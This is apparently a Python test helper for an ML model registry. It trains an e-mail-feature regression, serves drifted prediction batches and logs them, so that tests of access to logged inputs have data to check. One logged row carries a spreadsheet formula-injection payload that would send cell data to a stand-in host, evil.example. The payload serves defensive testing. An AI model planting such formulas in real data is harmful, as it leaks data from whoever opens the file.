"""A model with a categorical input holding e-mail addresses, served and drifted: what the tests of
who may read logged inputs look at."""
import numpy as np
import pandas as pd
from sklearn.compose import ColumnTransformer
from sklearn.linear_model import LinearRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import OneHotEncoder

from tests.helpers import upload_ok

EMAILS = ["alice@example.com", "bob@example.com", "carol@example.com"]
HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"


def email_model() -> Pipeline:
    """A regression on ``amount`` and the one-hot ``email`` of the customer."""
    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"amount": rng.normal(size=60), "email": rng.choice(EMAILS, size=60)})
    y = frame["amount"] + frame["email"].map({EMAILS[0]: 1.0, EMAILS[1]: 0.0, EMAILS[2]: -1.0})
    columns = ColumnTransformer([("amount", "passthrough", ["amount"]),
                                 ("email", OneHotEncoder(handle_unknown="ignore"), ["email"])])
    return Pipeline([("prepare", columns), ("model", LinearRegression())]).fit(frame, y)


def records(rng, n: int, emails: list[str]) -> list[dict]:
    """``n`` rows by name, their e-mail addresses drawn from ``emails``."""
    return [{"amount": float(rng.normal()), "email": str(rng.choice(emails))} for _ in range(n)]


def serve_drifted(app, client, ci, name: str = "shop") -> None:
    """Upload and promote the model, send its training reference (every address alike), then serve 150
    rows of alice's address only and one of a hostile one (``<name>-hostile``): the ``email`` column drifts."""
    upload_ok(client, ci, name, email_model())
    assert client.post(f"/models/{name}/versions/1/promote", json={}, headers=ci).status_code == 200
    rng = np.random.default_rng(1)
    sent = client.put(f"/models/{name}/versions/1/reference", headers=ci,
                      json={"source": "training", "dataframe_records": records(rng, 300, EMAILS)})
    assert sent.status_code == 200, sent.get_json()
    rows = records(rng, 149, EMAILS[:1])
    batches = [(f"{name}-{i}", rows[i:i + 50]) for i in range(0, len(rows), 50)]
    for request_id, batch in [*batches, (f"{name}-hostile", [{"amount": -1.5, "email": HOSTILE}])]:
        answered = client.post(f"/models/{name}/production/predict", json={"dataframe_records": batch},
                               headers={"X-Request-ID": request_id})
        assert answered.status_code == 200, answered.get_json()
    assert app.extensions["model_registry"].prediction_log.flush(), "the prediction log did not drain"
